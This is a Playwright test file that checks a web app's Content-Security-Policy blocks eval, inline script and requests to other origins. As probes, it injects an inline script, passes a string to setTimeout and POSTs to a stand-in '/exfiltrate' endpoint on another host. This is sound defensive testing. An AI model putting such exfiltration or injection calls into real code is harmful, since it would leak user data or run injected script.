// Containment (issue #9): the built page carries a Content-Security-Policy (scripts/csp.mjs, run
// by Trunk after every build) that allows no eval and no inline script and lets the page talk
// only to its own origin; the app generates under it with no violation.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, launch, openPage } from './harness.mjs';

let srv, browser;
before(async () => { srv = await startServer(); browser = await launch(); });
after(async () => { await browser?.close(); srv?.server.close(); });

test('the page runs under a CSP without unsafe-eval, and the policy holds', { timeout: 600_000 }, async () => {
  const page = await browser.newPage();
  const errors = [];
  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.goto(`${srv.base}/?model=fashion&sampler=ddim&steps=3&seed=1&batch=1`);
  const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.ok(policy, 'index.html has a CSP meta');
  const directives = Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives['default-src'], ["'self'"]);
  assert.ok(!directives['script-src'].includes("'unsafe-eval'") && !directives['script-src'].includes("'unsafe-inline'"),
    `script-src ${directives['script-src']}`);
  assert.deepEqual(directives['connect-src'], ["'self'"]);
  assert.equal(await page.locator('script:not([src])').count(), 0, 'no inline scripts');

  await page.waitForSelector('#generate:not([disabled])', { timeout: 120_000 });
  await page.click('#generate');
  await page.waitForSelector('#run-status[data-state="done"]', { timeout: 300_000 });
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the app itself triggers no violation');

  // The policy is enforced (DevTools' own evaluation is exempt, so the probes run as page code):
  // an injected inline script and a string handed to setTimeout (an eval) do not run, and talking
  // to another origin fails.
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__inline = true';
    document.head.append(s);
    setTimeout('window.__evaled = true', 0);
  });
  await page.waitForTimeout(200);
  assert.deepEqual(await page.evaluate(() => [window.__inline ?? false, window.__evaled ?? false]), [false, false]);
  const fetchResult = await page.evaluate(async () => {
    try { await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'x' }); return 'sent'; } catch (e) { return e.name; }
  });
  assert.equal(fetchResult, 'TypeError');
  const v = await page.evaluate(() => window.__violations);
  for (const d of ['script-src-elem', 'script-src', 'connect-src']) {
    assert.ok(v.some((s) => s.startsWith(`${d} `)), `a ${d} violation should have been reported: ${v}`);
  }
  assert.deepEqual(errors.filter((e) => !/Content Security Policy|Refused to|Failed to fetch/.test(e)), []);
  await page.close();
});
